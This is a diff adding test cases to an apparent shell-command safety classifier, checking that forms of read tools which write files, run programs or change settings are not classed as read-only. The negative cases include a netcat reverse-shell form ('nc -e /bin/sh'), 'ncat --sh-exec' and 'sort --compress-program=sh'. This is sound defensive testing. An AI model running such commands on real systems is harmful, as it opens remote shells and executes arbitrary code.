@@ -211,6 +211,45 @@ describe('wget options that write files or send data', () => {
   ]);
 });
 
+describe('forms of read tools that write, run or set something', () => {
+  notRead([
+    'tcpdump -i eth0 -c 10 -w /tmp/cap',
+    'tcpdump -z /tmp/x -w /tmp/cap -C 1',
+    'tshark -i eth0 -w /tmp/cap',
+    'sar -o /tmp/sa 1 3',
+    'sort --compress-program=sh f',
+    'nc -e /bin/sh h 1',
+    'ncat --sh-exec "touch /tmp/f" h 1',
+    'ncat -o /tmp/f h 1',
+    'ss -K dst 10.0.0.1',
+    'arp -d 10.0.0.1',
+    'route add default gw 10.0.0.1',
+    'ethtool -s eth0 speed 100',
+    'hostnamectl set-hostname x',
+    'timedatectl set-time 12:00',
+    'loginctl terminate-session 3',
+    'resolvectl flush-caches',
+    'nmcli con down id x',
+    'less -o /tmp/f /etc/hostname',
+  ]);
+  read([
+    'tcpdump -nni eth0 -c 10 port 53',
+    'sar -u 1 3',
+    'sort -k2 -n f',
+    'ss -tlnp',
+    'arp -n',
+    'route -n',
+    'ethtool eth0',
+    'ethtool -S eth0',
+    'hostnamectl',
+    'timedatectl status',
+    'loginctl list-sessions',
+    'resolvectl query example.test',
+    'nmcli device status',
+    'nmcli con show',
+  ]);
+});
+
 describe('reasons name what decided', () => {
   it.each([
     ['xargs -a /etc/hostname echo', 'echo'],
